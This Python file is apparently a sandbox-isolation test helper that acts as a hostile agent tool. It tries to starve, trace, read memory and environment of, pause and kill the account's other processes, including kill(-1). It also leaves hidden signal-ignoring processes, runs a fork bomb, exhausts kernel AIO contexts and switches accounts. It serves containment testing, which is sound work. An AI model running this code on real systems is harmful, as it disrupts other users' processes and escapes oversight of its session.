"""The attacker's program against whoever is beside it: its own account's other processes, now and in the next call.

Tests list it as a tool of the agent and run it outside as a control; standard library only. ``beside.py VERB WORDS``,
words in hexadecimal; says as JSON what came of each try, ``ok`` where something was had.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import resource
import signal
import sys
import time
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
IOPRIO_SET = (251, 30)[("x86_64", "aarch64").index(os.uname().machine)]
IO_SETUP = (206, 0)[("x86_64", "aarch64").index(os.uname().machine)]
IDLE = 3 << 13


def tried(action: Callable[[], object]) -> str:
    """What came of it: ``ok``, or the error's name."""
    try:
        action()
    except ProcessLookupError:
        return "gone"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    return "ok"


def checked(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno(), "")


def others() -> list[int]:
    return sorted(int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid())


def starve(pid: int) -> dict[str, str]:
    """Take from one process what it needs to go on."""
    limits = {
        name: getattr(resource, name)
        for name in ("RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_AS", "RLIMIT_CPU")
    }
    tries: dict[str, Callable[[], object]] = {
        name: lambda which=which: resource.prlimit(pid, which, (1, 1)) for name, which in limits.items()
    }
    tries |= {
        "priority": lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        "scheduler": lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        "processor": lambda: os.sched_setaffinity(pid, {0}),
        "disk": lambda: checked(LIBC.syscall(ctypes.c_long(IOPRIO_SET), 1, pid, IDLE)),
    }
    return {name: tried(action) for name, action in tries.items()}


def enter(pid: int) -> dict[str, str]:
    """Stop one process, end it, or get into it."""
    tries: dict[str, Callable[[], object]] = {
        "trace": lambda: checked(LIBC.ptrace(16, pid, 0, 0)),
        "memory": lambda: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)),
        "environment": lambda: os.close(os.open(f"/proc/{pid}/environ", os.O_RDONLY)),
        "streams": lambda: os.close(os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK)),
        "root": lambda: os.listdir(f"/proc/{pid}/root/"),
        "score": lambda: written(f"/proc/{pid}/oom_score_adj", b"1000"),
        "pause": lambda: os.kill(pid, signal.SIGSTOP),
        "end": lambda: os.kill(pid, signal.SIGKILL),
    }
    return {name: tried(action) for name, action in tries.items()}


def written(path: str, what: bytes) -> None:
    descriptor = os.open(path, os.O_WRONLY)
    try:
        os.write(descriptor, what)
    finally:
        os.close(descriptor)


def beside(*words: str) -> dict[str, str]:
    """Every way against every process there is but one's own, or those in ``words``."""
    found = {}
    for pid in [int(word) for word in words] or others():
        found |= {f"{name} {pid}": said for name, said in {**starve(pid), **enter(pid)}.items()}
    whole = {
        "account's priority": lambda: os.setpriority(os.PRIO_USER, 0, 19),
        "account's disk": lambda: checked(LIBC.syscall(ctypes.c_long(IOPRIO_SET), 3, os.getuid(), IDLE)),
        "everybody": lambda: os.kill(-1, signal.SIGSTOP),
    }
    if not words:
        found |= {name: tried(action) for name, action in whole.items()}
    return found


def hide() -> dict[str, str]:
    """Leave processes that do not look like children: without a signal for their end, of a session of their own."""
    number = (56, 220)[("x86_64", "aarch64").index(os.uname().machine)]
    made = 0
    for flags in (0, 0x8000):  # no signal; a sibling of this process
        for _ in range(3):
            pid = LIBC.syscall(ctypes.c_long(number), ctypes.c_long(flags), 0, 0, 0, 0)
            if pid == 0:
                os.setsid()
                for descriptor in range(3):
                    os.close(descriptor)
                for each in range(1, 32):
                    if each not in (signal.SIGKILL, signal.SIGSTOP):
                        signal.signal(each, signal.SIG_IGN)
                time.sleep(600)
                os._exit(0)
            made += pid > 0
    return {"made": str(made), "seen": str(len(others()))}


def swarm(seconds: str) -> dict[str, str]:
    """Leave processes that make new ones for as long as they can, faster than one could look for them."""
    end = time.monotonic() + float(seconds)
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            for descriptor in range(3):
                os.close(descriptor)
            while time.monotonic() < end:
                try:
                    if os.fork() > 0:
                        os._exit(0)
                except OSError:
                    continue
            os._exit(0)
    return {"made": "4"}


def hold() -> dict[str, str]:
    """Take the machine's supply of what it has one of."""
    context = ctypes.c_ulong(0)
    events = {}
    for count in (1, 60_000):
        context.value = 0
        events[f"asynchronous {count}"] = tried(
            lambda count=count: checked(LIBC.syscall(ctypes.c_long(IO_SETUP), count, ctypes.byref(context)))
        )
    return events


def become(uid: str, verb: str, *words: str) -> dict[str, str]:
    """Another verb under another account, and what it does there to a process of that account."""
    os.setgroups([])
    os.setresgid(int(uid), int(uid), int(uid))
    os.setresuid(int(uid), int(uid), int(uid))
    checked(LIBC.prctl(4, 1, 0, 0, 0))  # as it was before the account changed: one may look into the other
    victim = os.fork()
    if victim == 0:
        time.sleep(60)
        os._exit(0)
    try:
        return VERBS[verb](*words, str(victim))
    finally:
        os.kill(victim, signal.SIGKILL)


VERBS: dict[str, Callable[..., dict[str, str]]] = {
    "beside": beside, "hide": hide, "swarm": swarm, "hold": hold, "become": become,
}  # fmt: skip

if __name__ == "__main__":
    sys.stdout.write(json.dumps(VERBS[sys.argv[1]](*(bytes.fromhex(word).decode() for word in sys.argv[2:]))))
